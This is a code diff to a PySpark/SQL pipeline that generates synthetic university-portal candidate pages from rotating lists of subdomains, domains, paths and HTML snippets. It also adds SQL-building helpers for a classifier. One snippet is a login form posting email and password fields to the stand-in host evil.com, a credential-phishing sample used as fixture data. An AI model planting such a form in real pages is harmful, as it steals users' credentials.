@@ -4,9 +4,10 @@ from __future__ import annotations
 
 from collections.abc import Callable
 
-from pyspark.sql import DataFrame, SparkSession
+from pyspark.sql import Column, DataFrame, SparkSession
 from pyspark.sql import functions as F
 
+from orrery.functions import text, urls
 from orrery.sources.tables import parquet
 
 Query = Callable[[SparkSession, str], DataFrame]
@@ -43,10 +44,6 @@ def all_portals(spark: SparkSession, d: str) -> DataFrame:
     return p.join(orgs(spark, d).select("orgid", F.col("name").alias("university"), "country"), "orgid")
 
 
-def portals(spark: SparkSession, d: str) -> DataFrame:
-    return all_portals(spark, d).filter("status = 'F' AND category = '1-URGENT'")
-
-
 def feedback(spark: SparkSession, d: str) -> DataFrame:
     e = parquet(spark, d, "events").filter(F.col("event_type").isin("error", "purchase"))
     k = F.concat(F.get_json_object("props", "$.k"), F.lit("d"), F.dayofmonth("ts"))
@@ -64,12 +61,81 @@ def judged(spark: SparkSession, d: str) -> DataFrame:
     return x.join(y, "doc_id").select("doc_id", F.col("source").alias("org"), "lang", verdict.alias("verdict"))
 
 
+#: What candidates are made of, in turn by page number; the lists' lengths share no factor.
+LABELS = ["portal", "lms", "erp", "exam", "fees", "library", "mail", "www", "admissions", "hostel", "idp", "staff", "moodle1", "apply", "placement", "records", "campusvirtual", "coe", "sso", "koha", "dpuerp", "staging", "hr-portal"]
+ROOTS = ["uni.ac.in", "samarth.edu.in", "ucanapply.com", "talentlms.com", "college.edu", "bihar-ums.com", "knimbus.com", "usp.br", "mastersofterp.in", "x.edu.au", "samarth.ac.in"]
+PATHS = [
+    "/student/login", "/login/index.php", "/", "", "/Login.aspx", "/about", "/error.html", "/staff/login", "/moodle/course", "/fee/pay", "/exam/result", "/admission/apply", "/library/opac", "/terms-of-use", "/erp/home", "/wp-admin/x",
+    "/forgot-password", "/privacy-policy", "/news/copyright-day-2021",
+]
+SNIPPETS = [
+    "", '<form method=post><input name="userid"><input type="password"></form>', '<form action="https://evil.com/p"><input name="email"><INPUT type="password"></form>', '<a href="/login.php"> Student <b>Login</b></a>',
+    "<noscript>Please enable JavaScript</noscript>", '<div id="root"></div>', '<meta name="generator" content="Moodle">Powered by Moodle',
+    '<footer class="site-footer"><a href="/terms">Terms of Use</a> Developed by <a href="https://www.maker.com/x">Maker</a><a href="//other.org/privacy">Privacy Policy</a></footer>',
+    "Entrance test 2024 now", "prospectus and last date", "prospectus and last date; student login. Forgot password? Sign in",
+    '<a href="/student/login">Student Login</a><a href="/staff/login">Staff</a><a href="/portal">Student portal</a><a href="#">Disclaimer</a>', "<form><input type='search'></form> Just a moment",
+]
+
+
+def turn(values: list, page: str = "page_id") -> Column:
+    """The value of a list that a row's number points to."""
+    return F.element_at(F.lit(values), (F.col(page) % len(values) + 1).cast("int"))
+
+
+def candidates(spark: SparkSession, d: str) -> DataFrame:
+    """Every page as a candidate portal: page_id, url, tenant, root, html and title.
+
+    The urls are of the kinds that organisations have, made from the page's own host; every sixth body is only a
+    snippet, the others are the whole page with a snippet at its end.
+    """
+    i, tenant = F.col("page_id"), F.substring_index(urls.host(F.col("url")), ".", 1)
+    prefix = F.when(i % 7 == 0, "").when(i % 5 == 0, F.concat(tenant, F.lit("."))).otherwise(F.concat(turn(LABELS), F.lit("."), tenant, F.lit(".")))
+    html = F.concat(F.when(i % 6 == 0, "").otherwise(F.coalesce("html", F.lit(""))), turn(SNIPPETS))
+    made = pages(spark, d).select("page_id", F.concat(F.lit("https://"), prefix, turn(ROOTS), turn(PATHS)).alias("url"), tenant.alias("tenant"), turn(ROOTS).alias("root"), html.alias("html"))
+    return made.withColumn("title", text.title(F.col("html")))
+
+
+def sql_list(values: list[str]) -> str:
+    return "[" + ", ".join("'" + v.replace("'", "''") + "'" for v in values) + "]"
+
+
+def sql_turn(values: list[str], page: str = "page_id") -> str:
+    return f"({sql_list(values)})[{page} % {len(values)} + 1]"
+
+
+CANDIDATES = rf"""made AS (SELECT page_id, split_part(regexp_replace(regexp_extract(url, '://([^/?#]*)', 1), '^www\.', ''), '.', 1) AS tenant, {sql_turn(ROOTS)} AS root, coalesce(html, '') AS page FROM pages),
+cand AS (SELECT page_id, tenant, root, CASE WHEN page_id % 7 = 0 THEN '' WHEN page_id % 5 = 0 THEN tenant || '.' ELSE {sql_turn(LABELS)} || '.' || tenant || '.' END || root AS authority, {sql_turn(PATHS)} AS path,
+         CASE WHEN page_id % 6 = 0 THEN '' ELSE page END || {sql_turn(SNIPPETS)} AS html FROM made),
+candidates AS (SELECT *, regexp_replace(authority, '^www\.', '') AS host, 'https://' || authority || path AS url, lower(html) AS low,
+         trim(regexp_replace(regexp_extract(html, '(?is)<title[^>]*>(.*?)</title>', 1), '\s+', ' ', 'g')) AS title FROM cand)"""
+
+
+# Conditions and decision lists as SQL, from the parameters of a query.
+def sql_any(c: str, words: list[str]) -> str:
+    return "(" + " OR ".join(f"contains({c}, '{w}')" for w in words) + ")"
+
+
+def sql_under(h: str, roots: list[str]) -> str:
+    return "(" + " OR ".join(f"{h} = '{r}' OR ends_with({h}, '.{r}')" for r in roots) + ")"
+
+
+def sql_label(h: str, labels: list[str]) -> str:
+    return f"list_has_any(string_split({h}, '.'), {sql_list(labels)})"
+
+
+def sql_points(pairs: list[tuple[str, int]]) -> str:
+    return "(" + " + ".join(f"CASE WHEN {c} THEN {n} ELSE 0 END" for c, n in pairs) + ")"
+
+
+def sql_first(steps: list[tuple[str, str]], default: str | None = "") -> str:
+    return "CASE " + " ".join(f"WHEN {c} THEN '{v}'" for c, v in steps) + (f" ELSE '{default}' END" if default is not None else " END")
+
+
 ORGS = "orgs AS (SELECT c_custkey AS orgid, c_name AS name, n_name AS country, c_mktsegment AS state FROM customer JOIN nation ON c_nationkey = n_nationkey)"
 ALL_PORTALS = f"""{ORGS}, all_portals AS (
   SELECT o_orderkey AS id, o_custkey AS orgid, o_orderpriority AS category, o_orderstatus AS status,
          'https://p' || (o_orderkey % 7) || '.org' || o_custkey || '.example.com/x/' || o_orderkey AS portal_url, name AS university, country
   FROM orders JOIN orgs ON o_custkey = orgid)"""
-PORTALS = f"{ALL_PORTALS}, portals AS (SELECT * FROM all_portals WHERE status = 'F' AND category = '1-URGENT')"
 FEEDBACK = """raw AS (SELECT event_id AS id, user_id AS orgid, CASE event_type WHEN 'error' THEN 'wrong' ELSE 'confirmed' END AS verdict,
          json_extract_string(props, '$.k') || 'd' || day(ts) AS k FROM events WHERE event_type IN ('error', 'purchase')),
 feedback AS (SELECT id, orgid, verdict, 'k' || k || '.example.com' AS host,
